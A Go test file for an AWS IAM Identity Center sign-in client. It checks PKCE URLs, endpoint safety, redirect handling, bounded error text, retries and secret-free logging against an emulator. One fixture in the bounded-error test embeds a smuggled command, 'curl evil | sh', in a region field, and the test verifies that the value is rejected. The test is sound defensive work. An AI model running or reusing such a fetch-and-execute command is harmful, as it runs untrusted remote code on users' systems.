package identitycenter_test

import (
	"bytes"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"aws-sso-config-generator/internal/emulator"
	"aws-sso-config-generator/internal/identitycenter"
)

const redirectURI = "http://127.0.0.1:40000/oauth/callback"

// service is an emulator and the options that lead to it.
func service(config emulator.Config) (*emulator.Emulator, identitycenter.Options) {
	e := emulator.New(config)
	return e, identitycenter.Options{Region: "us-east-1", Transport: e.Transport()}
}

func newClient(t *testing.T, o identitycenter.Options) *identitycenter.Client {
	t.Helper()
	client, err := identitycenter.NewClient(o)
	if err != nil {
		t.Fatal(err)
	}
	return client
}

// registered is the metadata of the default sign-in.
var registered = identitycenter.ClientMetadata{
	ClientName: "test", GrantTypes: []string{identitycenter.GrantAuthorizationCode},
	RedirectURIs: []string{redirectURI}, Scopes: []string{identitycenter.ScopeAccountAccess},
	IssuerURL: emulator.DefaultStartURL,
}

// codeFor follows an authorize URL as a browser does, up to the redirect.
func codeFor(t *testing.T, o identitycenter.Options, authorizeURL string) string {
	t.Helper()
	request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, authorizeURL, nil)
	if err != nil {
		t.Fatal(err)
	}
	response, err := o.Transport.RoundTrip(request)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = response.Body.Close() }()
	back, err := url.Parse(response.Header.Get("Location"))
	if err != nil || back.Query().Get("code") == "" {
		t.Fatalf("GET /authorize: %s, Location %q", response.Status, response.Header.Get("Location"))
	}
	return back.Query().Get("code")
}

// signIn goes the whole way to a token.
func signIn(t *testing.T, o identitycenter.Options) identitycenter.Token {
	t.Helper()
	client := newClient(t, o)
	registration, err := client.Register(t.Context(), registered)
	if err != nil {
		t.Fatal(err)
	}
	code := codeFor(t, o, client.AuthorizeURL(identitycenter.AuthorizationRequest{
		ClientID: registration.ClientID, RedirectURI: redirectURI, State: "state",
		Scopes: registered.Scopes, CodeVerifier: "a-verifier-of-at-least-forty-three-characters",
	}))
	token, err := client.CreateToken(t.Context(), registration, identitycenter.Grant{
		Code: identitycenter.Secret(code), RedirectURI: redirectURI, CodeVerifier: "a-verifier-of-at-least-forty-three-characters",
	})
	if err != nil {
		t.Fatal(err)
	}
	return token
}

func TestAuthorizeURLSaysWhatTheSpecificationDraws(t *testing.T) {
	raw := newClient(t, identitycenter.Options{Region: "us-east-1"}).AuthorizeURL(identitycenter.AuthorizationRequest{
		ClientID: "a b+c", RedirectURI: redirectURI, Scopes: []string{"sso:account:access", "two"}, State: "xyz",
		CodeVerifier: "dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk", // RFC 7636 appendix B
	})
	const want = "https://oidc.us-east-1.amazonaws.com/authorize?client_id=a%20b%2Bc&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM" +
		"&code_challenge_method=S256&redirect_uri=http%3A%2F%2F127.0.0.1%3A40000%2Foauth%2Fcallback&response_type=code" +
		"&scopes=sso%3Aaccount%3Aaccess%20two&state=xyz"
	if raw != want {
		t.Errorf("got  %s\nwant %s", raw, want)
	}
}

func TestSecretsNeverLeaveByEndpoint(t *testing.T) {
	for endpoint, safe := range map[string]bool{
		"https://oidc.example.com":     true,
		"http://127.0.0.1:8080":        true,
		"http://localhost:8080":        true,
		"http://[::1]:8080":            true,
		"http://oidc.example.com":      false,
		"http://127.0.0.1.example.com": false,
		"ftp://127.0.0.1":              false,
		"https://":                     false,
		"127.0.0.1:8080":               false,
		"://":                          false,
	} {
		_, err := identitycenter.NewClient(identitycenter.Options{Region: "us-east-1", OIDCEndpoint: endpoint})
		if (err == nil) != safe {
			t.Errorf("OIDC endpoint %s: %v", endpoint, err)
		}
		_, err = identitycenter.NewPortal(identitycenter.Options{Region: "us-east-1", PortalEndpoint: endpoint}, identitycenter.Token{})
		if (err == nil) != safe {
			t.Errorf("portal endpoint %s: %v", endpoint, err)
		}
	}
}

// net/http would take the bearer token along.
func TestARedirectOfTheAPIIsNotFollowed(t *testing.T) {
	asked := 0
	elsewhere := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked++ }))
	defer elsewhere.Close()
	server := httptest.NewServer(http.RedirectHandler(elsewhere.URL, http.StatusFound))
	defer server.Close()
	o := identitycenter.Options{Region: "us-east-1", OIDCEndpoint: server.URL, PortalEndpoint: server.URL}
	_, registerErr := newClient(t, o).Register(t.Context(), registered)
	portal, err := identitycenter.NewPortal(o, identitycenter.Token{AccessToken: "token"})
	if err != nil {
		t.Fatal(err)
	}
	_, accountsErr := portal.Accounts(t.Context(), "")
	for _, err := range []error{registerErr, accountsErr} {
		if e, ok := errors.AsType[*identitycenter.Error](err); !ok || e.Status != http.StatusFound {
			t.Errorf("got %v", err)
		}
	}
	if asked != 0 {
		t.Error("a secret went to another server")
	}
}

func TestAnEndlessAnswerIsCut(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		for {
			if _, err := w.Write(make([]byte, 1<<20)); err != nil {
				return
			}
		}
	}))
	defer server.Close()
	portal, err := identitycenter.NewPortal(identitycenter.Options{Region: "us-east-1", PortalEndpoint: server.URL}, identitycenter.Token{AccessToken: "token"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := portal.Accounts(t.Context(), ""); !errors.Is(err, identitycenter.ErrTransient) || !strings.Contains(err.Error(), "larger than") {
		t.Errorf("got %v", err)
	}
}

// What the service says is shown to a person: not megabytes of it, and no region
// that is a command line.
func TestWhatTheServiceSaysIsBounded(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusBadRequest)
		_, _ = fmt.Fprintf(w, `{"error":"invalid_request","error_description":%q,"region":"eu-west-1; curl evil | sh"}`, strings.Repeat("x", 1<<20))
	}))
	defer server.Close()
	_, err := newClient(t, identitycenter.Options{Region: "us-east-1", OIDCEndpoint: server.URL}).Register(t.Context(), registered)
	if e, ok := errors.AsType[*identitycenter.Error](err); !ok || e.Region != "" || len(e.Error()) > 600 {
		t.Errorf("got %.700v", err)
	}
}

func TestWhatTheServiceAnswersHasItsSentinel(t *testing.T) {
	for _, test := range []struct {
		fault string
		want  error
		text  string
	}{
		{"AuthorizationPendingException", identitycenter.ErrAuthorizationPending, "HTTP 400, AuthorizationPendingException: Authorization is still pending"},
		{"SlowDownException", identitycenter.ErrSlowDown, "HTTP 400"},
		{"ExpiredTokenException", identitycenter.ErrExpiredToken, "HTTP 400"},
		{"AccessDeniedException", identitycenter.ErrAccessDenied, "HTTP 400"},
		{"InvalidGrantException", identitycenter.ErrInvalidGrant, "HTTP 400"},
		{"InvalidClientException", identitycenter.ErrInvalidClient, "HTTP 401"},
		{"InvalidRequestException", identitycenter.ErrInvalidRequest, "HTTP 400"},
		{"InvalidRequestRegionException:eu-west-1", identitycenter.ErrInvalidRequest, "HTTP 400"},
		{"InternalServerException", identitycenter.ErrTransient, "HTTP 500"},
		{"503", identitycenter.ErrTransient, "HTTP 503 Service Unavailable"},
		{"403", identitycenter.ErrForbidden, "HTTP 403 Forbidden"},
		{"429", identitycenter.ErrThrottled, "HTTP 429 Too Many Requests"},
		{"reset", identitycenter.ErrTransient, "EOF"},
		{"truncated", identitycenter.ErrTransient, "unexpected EOF"},
		{"malformed", identitycenter.ErrTransient, "malformed answer"},
		{"html", identitycenter.ErrTransient, "malformed answer"},
		{"hang", identitycenter.ErrTransient, "no answer from oidc.us-east-1.amazonaws.com within 30s"},
	} {
		t.Run(test.fault, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				_, o := service(emulator.Config{Faults: []emulator.Fault{{Operation: "CreateToken", Answer: test.fault}}})
				_, err := newClient(t, o).CreateToken(t.Context(), identitycenter.Registration{ClientID: "id", ClientSecret: "secret"},
					identitycenter.Grant{DeviceCode: "device"})
				if !errors.Is(err, test.want) || !strings.Contains(err.Error(), test.text) || !strings.HasPrefix(err.Error(), "CreateToken: ") {
					t.Errorf("got %v, want %v and %q", err, test.want, test.text)
				}
			})
		})
	}
}

func TestTheRegionThatTheServiceNamesIsKept(t *testing.T) {
	_, o := service(emulator.Config{Faults: []emulator.Fault{{Operation: "RegisterClient", Answer: "InvalidRequestRegionException:eu-west-1"}}})
	_, err := newClient(t, o).Register(t.Context(), registered)
	if e, ok := errors.AsType[*identitycenter.Error](err); !ok || e.Region != "eu-west-1" {
		t.Errorf("got %#v", err)
	}
}

func TestATransientFaultOfTheSignInIsTriedThreeTimes(t *testing.T) {
	for times, ok := range map[int]bool{2: true, 3: false} {
		synctest.Test(t, func(t *testing.T) {
			e, o := service(emulator.Config{Faults: []emulator.Fault{{Operation: "RegisterClient", Answer: "InternalServerException", Times: times}}})
			_, err := newClient(t, o).Register(t.Context(), registered)
			if (err == nil) != ok {
				t.Errorf("%d faults: %v", times, err)
			}
			if n := e.Stats().Requests["RegisterClient"]; n != 3 {
				t.Errorf("%d faults: asked %d times", times, n)
			}
		})
	}
}

func TestARefusalOfTheSignInIsNotTriedAgain(t *testing.T) {
	e, o := service(emulator.Config{Faults: []emulator.Fault{{Operation: "RegisterClient", Answer: "InvalidClientMetadataException"}}})
	_, err := newClient(t, o).Register(t.Context(), registered)
	if !errors.Is(err, identitycenter.ErrInvalidClientMetadata) || e.Stats().Requests["RegisterClient"] != 1 {
		t.Errorf("got %v after %d requests", err, e.Stats().Requests["RegisterClient"])
	}
}

func TestThePortalIsAskedOncePerCall(t *testing.T) {
	e, o := service(emulator.Config{AutoApprove: true, Faults: []emulator.Fault{{Operation: "ListAccounts", Answer: "InternalServerException"}}})
	portal, err := identitycenter.NewPortal(o, signIn(t, o))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := portal.Accounts(t.Context(), ""); !errors.Is(err, identitycenter.ErrTransient) {
		t.Errorf("got %v", err)
	}
	if n := e.Stats().Requests["ListAccounts"]; n != 1 {
		t.Errorf("asked %d times: pace and retries belong to the caller", n)
	}
}

func TestHowLongToWaitIsReadFromBothHeaders(t *testing.T) {
	for header, want := range map[string]time.Duration{
		"Retry-After: 3":                             3 * time.Second,
		"Retry-After: -3":                            0,
		"Retry-After: 2000000000":                    5 * time.Minute,
		"Retry-After: soon":                          0,
		"Retry-After: Wed, 21 Oct 2015 07:28:00 GMT": 0,
		"X-Amz-Retry-After: 1500":                    1500 * time.Millisecond,
		"X-Amz-Retry-After: 99999999999999999999":    0,
	} {
		name, value, _ := strings.Cut(header, ": ")
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set(name, value)
			w.WriteHeader(http.StatusTooManyRequests)
		}))
		portal, err := identitycenter.NewPortal(identitycenter.Options{Region: "us-east-1", PortalEndpoint: server.URL}, identitycenter.Token{AccessToken: "t"})
		if err != nil {
			t.Fatal(err)
		}
		_, err = portal.Accounts(t.Context(), "")
		server.Close()
		if e, ok := errors.AsType[*identitycenter.Error](err); !ok || e.RetryAfter != want || !errors.Is(err, identitycenter.ErrThrottled) {
			t.Errorf("%s: got %v, %v", header, e.RetryAfter, err)
		}
	}
}

func TestTheLogHoldsNoSecret(t *testing.T) {
	var log bytes.Buffer
	e, o := service(emulator.Config{AutoApprove: true, Organization: emulator.Organize(1, 2, 2)})
	o.Logger = slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug}))
	portal, err := identitycenter.NewPortal(o, signIn(t, o))
	if err != nil {
		t.Fatal(err)
	}
	page, err := portal.Accounts(t.Context(), "")
	if err != nil || len(page.Items) != 2 {
		t.Fatal(page, err)
	}
	if _, err := portal.Roles(t.Context(), page.Items[0].ID, ""); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(log.String(), "msg=request"); n != 4 {
		t.Errorf("%d requests in the log, want 4:\n%s", n, log.String())
	}
	for _, secret := range e.Secrets() {
		if strings.Contains(log.String(), secret) {
			t.Errorf("the log holds the secret %q", secret)
		}
	}
}
